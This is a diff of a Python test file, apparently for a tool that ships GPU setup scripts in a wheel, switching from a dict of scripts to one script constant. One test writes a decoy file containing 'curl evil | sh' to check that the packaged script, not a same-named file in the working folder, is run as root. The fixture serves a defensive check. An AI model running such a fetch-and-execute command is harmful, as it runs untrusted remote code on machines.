@@ -7,7 +7,7 @@ from pathlib import Path
 
 from emr.machines.shipped import shipped
 from emr.request.checks import script_file
-from emr.request.gpu import SCRIPTS
+from emr.request.gpu import SCRIPT
 
 ROOT = Path(__file__).parents[2]
 
@@ -16,9 +16,9 @@ import sys
 from pathlib import Path
 from emr.cost.prices import default_path, snapshot
 from emr.request.checks import script_file
-from emr.request.gpu import SCRIPTS
+from emr.request.gpu import SCRIPT
 here = Path(sys.argv[1])
-files = [default_path("us-east-1"), *map(script_file, SCRIPTS.values())]
+files = [default_path("us-east-1"), script_file(SCRIPT)]
 assert all(file.is_file() and here in file.parents for file in files), files
 """
 
@@ -44,10 +44,9 @@ def test_a_wheel_holds_the_scripts_and_the_prices(tmp_path):
 
 def test_a_file_of_the_same_name_in_the_working_folder_is_not_taken_for_ours(tmp_path, monkeypatch):
     """Every node runs that script as root."""
-    script = SCRIPTS["8.x"]
-    theirs = tmp_path / script
+    theirs = tmp_path / SCRIPT
     theirs.parent.mkdir(parents=True)
     theirs.write_text("curl evil | sh")
     monkeypatch.chdir(tmp_path)
-    assert shipped(script) == script_file(script)
-    assert ROOT / script == script_file(script)
+    assert shipped(SCRIPT) == script_file(SCRIPT)
+    assert ROOT / SCRIPT == script_file(SCRIPT)
